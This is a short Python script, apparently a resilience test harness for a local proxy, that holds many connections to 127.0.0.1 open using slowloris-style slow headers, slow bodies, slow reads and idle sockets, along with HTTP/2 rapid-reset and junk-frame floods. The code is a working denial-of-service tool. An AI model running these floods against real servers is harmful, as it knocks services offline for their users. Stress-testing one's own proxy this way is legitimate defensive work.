"""Clients that want nobody else to be served: holds connections of one kind open until it is killed.

usage: slow_clients.py PORT KIND COUNT ADDRESS   (KIND: heads, bodies, readers, idle, resets, frames)
Those that the proxy closes are opened again: the floods of HTTP/2 (resets, frames) at once, the others after a while.
"""

import asyncio
import socket
import sys

HOST = b" HTTP/1.1\r\nHost: shop.test\r\n"
SAY = {
    "heads": b"GET /" + HOST + b"X-Slow: ",
    "bodies": b"POST /" + HOST + b"Content-Length: 100000\r\n\r\n",
    "readers": b"GET /large" + HOST.replace(b"shop", b"large") + b"\r\n",
    "idle": b"",
}


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
GET = b"\x82\x86\x84\x01\x09shop.test"  # method, scheme and path by their numbers, the host in full
FLOOD = {
    # Requests that are taken back at once.
    "resets": HELLO + b"".join(frame(1, 5, n, GET) + frame(3, 0, n, bytes([0, 0, 0, 8])) for n in range(1, 20001, 2)),
    # Settings, pings and frames of a kind that nobody knows.
    "frames": HELLO + (frame(4, 0, 0) + frame(6, 0, 0, bytes(8)) + frame(200, 0, 0)) * 10000,
}


async def one(port, kind, address):
    loop = asyncio.get_running_loop()
    while True:
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            sock.bind((address, 0))
            await loop.sock_connect(sock, ("127.0.0.1", port))
            while kind in FLOOD:
                await loop.sock_sendall(sock, FLOOD[kind])
            await loop.sock_sendall(sock, SAY[kind])
            while True:
                if kind == "readers":
                    await asyncio.sleep(2)
                    if not await loop.sock_recv(sock, 512):
                        break
                elif kind == "idle":
                    if not await loop.sock_recv(sock, 512):
                        break
                else:
                    await asyncio.sleep(1)
                    await loop.sock_sendall(sock, b"x")
        except OSError:
            pass
        finally:
            sock.close()
        await asyncio.sleep(0.05 if kind in FLOOD else 5)


async def main():
    port, kind, count, address = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4]
    await asyncio.gather(*(one(port, kind, address) for _ in range(count)))


asyncio.run(main())
